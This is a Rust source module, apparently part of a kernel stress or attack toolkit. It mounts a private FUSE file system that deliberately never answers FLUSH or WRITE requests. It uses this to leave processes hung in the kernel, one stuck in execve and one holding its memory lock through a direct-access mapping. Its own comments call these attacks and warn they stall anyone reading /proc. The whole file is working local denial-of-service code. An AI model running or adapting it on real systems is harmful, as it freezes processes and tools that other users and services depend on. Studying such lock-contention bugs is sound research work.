//! Attacks that keep others waiting in the kernel, by a file system that does not answer: only for virtual machines,
//! since whoever looks at `/proc` there waits too. When the process that serves it ends, everybody goes on.

use std::ffi::CString;
use std::fs::File;
use std::io::{PipeReader, Read, Result as IoResult, Write, pipe};
use std::os::fd::{AsRawFd, IntoRawFd};
use std::ptr::null_mut;
use std::sync::atomic::{AtomicI32, Ordering};

use anyhow::{Context, Result};

use crate::private;
use crate::registry::{map, publish_empty};
use crate::siege::{Siege, check};

/// The kernel's codes of requests, from `linux/fuse.h`.
mod request {
    pub(super) const LOOKUP: u32 = 1;
    pub(super) const FORGET: u32 = 2;
    pub(super) const GETATTR: u32 = 3;
    pub(super) const SETATTR: u32 = 4;
    pub(super) const OPEN: u32 = 14;
    pub(super) const READ: u32 = 15;
    pub(super) const WRITE: u32 = 16;
    pub(super) const RELEASE: u32 = 18;
    pub(super) const FLUSH: u32 = 25;
    pub(super) const INIT: u32 = 26;
    pub(super) const INTERRUPT: u32 = 36;
}

/// A flag of an open file, which the first one has not.
const DIRECT_ACCESS: u32 = 1;

const PAGE_BYTES: usize = 4_096;
const NO_SUCH_REQUEST: i32 = -libc::ENOSYS;
const DIRECTORY: &str = "/tmp/served";
const FILE: &str = "/tmp/served/file";
const ROOT_NODE: u64 = 1;
const FILE_NODE: u64 = 2;
/// Larger than any request that the server asks for.
const REQUEST_BYTES: usize = 1 << 17;

/// A process in `execve` that closes a file, which the file system never says it has written.
pub(crate) fn flush(siege: &mut Siege) -> Result<()> {
    let mut silence = serve(siege, request::FLUSH)?;
    let process = siege.start(|| {
        publish_empty()?;
        std::mem::forget(open()?);
        on_signal(execute);
        Ok(())
    })?;
    send_signal(process)?;
    silence.read_exact(&mut [0]).context("no request")
}

/// A process that maps a file, and holds the lock of its memory until the file system has written what it changed in
/// another mapping: a file that is opened for direct access must not have unwritten pages.
pub(crate) fn memory_lock(siege: &mut Siege) -> Result<()> {
    let mut silence = serve(siege, request::WRITE)?;
    let process = siege.start(|| {
        publish_empty()?;
        let file = open()?;
        let page = map(&file, PAGE_BYTES, libc::PROT_READ | libc::PROT_WRITE)?;
        // Opening it so would write the page, too.
        DIRECT.store(open()?.into_raw_fd(), Ordering::Relaxed);
        // SAFETY: the page was just mapped, to be written to.
        unsafe { (page as *mut u8).write_volatile(1) };
        on_signal(map_direct);
        std::mem::forget(file);
        Ok(())
    })?;
    send_signal(process)?;
    silence.read_exact(&mut [0]).context("no request")
}

/// The descriptor that [`map_direct`] maps.
static DIRECT: AtomicI32 = AtomicI32::new(-1);

extern "C" fn map_direct(_: i32) {
    let (flags, file) = (libc::MAP_PRIVATE, DIRECT.load(Ordering::Relaxed));
    // SAFETY: a fresh mapping at an address that the kernel chooses.
    unsafe { libc::mmap(null_mut(), PAGE_BYTES, libc::PROT_READ, flags, file, 0) };
}

extern "C" fn execute(_: i32) {
    let program = c"/proc/self/exe".as_ptr();
    // SAFETY: strings of C's, in a list that ends with null.
    unsafe { libc::execv(program, [program, null_mut()].as_ptr()) };
}

fn on_signal(act: extern "C" fn(i32)) {
    // SAFETY: the handlers only make system calls.
    unsafe { libc::signal(libc::SIGUSR1, act as *const () as usize) };
}

fn send_signal(process: libc::pid_t) -> IoResult<()> {
    // SAFETY: only takes numbers.
    check(unsafe { libc::kill(process, libc::SIGUSR1) }.into()).map(drop)
}

fn open() -> IoResult<File> {
    File::options().read(true).write(true).open(FILE)
}

/// Mounts a file system with one file, in a namespace of its own, and starts the process that serves it. That one
/// never answers a request of the kind `silent`, and writes a byte when it gets one.
fn serve(siege: &mut Siege, silent: u32) -> Result<PipeReader> {
    private::enter_empty_directory()?;
    std::fs::create_dir(DIRECTORY)?;
    let device = File::options().read(true).write(true).open("/dev/fuse");
    let device = device.context("opening /dev/fuse")?;
    mount(&device)?;
    let (reader, writer) = pipe()?;
    siege.start_then(|| Ok(()), move || answer(&device, silent, writer))?;
    Ok(reader)
}

fn answer(mut device: &File, silent: u32, mut silence: impl Write) -> IoResult<()> {
    let mut request = vec![0; REQUEST_BYTES];
    let mut opened = 0;
    loop {
        let _bytes = device.read(&mut request)?;
        let word = |offset: usize| {
            u32::from_le_bytes(request[offset..offset + 4].try_into().unwrap_or_default())
        };
        let long = |offset: usize| {
            u64::from_le_bytes(request[offset..offset + 8].try_into().unwrap_or_default())
        };
        let (kind, unique, node) = (word(4), long(8), long(16));
        if kind == silent {
            silence.write_all(b"!")?;
            continue;
        }
        let (error, body) = match kind {
            request::FORGET | request::INTERRUPT => continue,
            // Version 7.31, and a page for every write.
            request::INIT => (
                0,
                words(&[
                    7,
                    31,
                    0,
                    0,
                    0,
                    PAGE_BYTES as u32,
                    1,
                    0,
                    0,
                    0,
                    0,
                    0,
                    0,
                    0,
                    0,
                    0,
                ]),
            ),
            request::LOOKUP => (
                0,
                [longs(&[FILE_NODE, 0, 60, 60, 0]), attributes(FILE_NODE)].concat(),
            ),
            request::GETATTR | request::SETATTR => {
                (0, [longs(&[60, 0]), attributes(node)].concat())
            }
            request::OPEN => {
                opened += 1;
                let flags = if opened == 1 { 0 } else { DIRECT_ACCESS };
                (0, words(&[0, 0, flags, 0]))
            }
            request::READ => (0, vec![0; PAGE_BYTES]),
            request::WRITE => (0, words(&[PAGE_BYTES as u32, 0])),
            request::RELEASE | request::FLUSH => (0, Vec::new()),
            _ => (NO_SUCH_REQUEST, Vec::new()),
        };
        let header = [
            words(&[16 + body.len() as u32, error as u32]),
            longs(&[unique]),
        ];
        let reply = [header.concat(), body].concat();
        // It has no use for the answer to a request that was given up.
        let _ = device.write(&reply);
    }
}

fn attributes(node: u64) -> Vec<u8> {
    let mode = match node {
        ROOT_NODE => libc::S_IFDIR | 0o755,
        _ => libc::S_IFREG | 0o777,
    };
    // SAFETY: both take nothing and cannot fail.
    let (user, group) = unsafe { (libc::geteuid(), libc::getegid()) };
    let sizes = longs(&[node, PAGE_BYTES as u64, 8, 0, 0, 0]);
    let rest = words(&[0, 0, 0, mode, 1, user, group, 0, PAGE_BYTES as u32, 0]);
    [sizes, rest].concat()
}

fn words(words: &[u32]) -> Vec<u8> {
    words.iter().flat_map(|word| word.to_le_bytes()).collect()
}

fn longs(longs: &[u64]) -> Vec<u8> {
    longs.iter().flat_map(|long| long.to_le_bytes()).collect()
}

fn mount(device: &File) -> IoResult<()> {
    // SAFETY: both take nothing and cannot fail.
    let (user, group) = unsafe { (libc::geteuid(), libc::getegid()) };
    let device = device.as_raw_fd();
    let options = format!("fd={device},rootmode=40000,user_id={user},group_id={group},allow_other");
    private::mount(c"fuse", &CString::new(DIRECTORY)?, &CString::new(options)?)
}
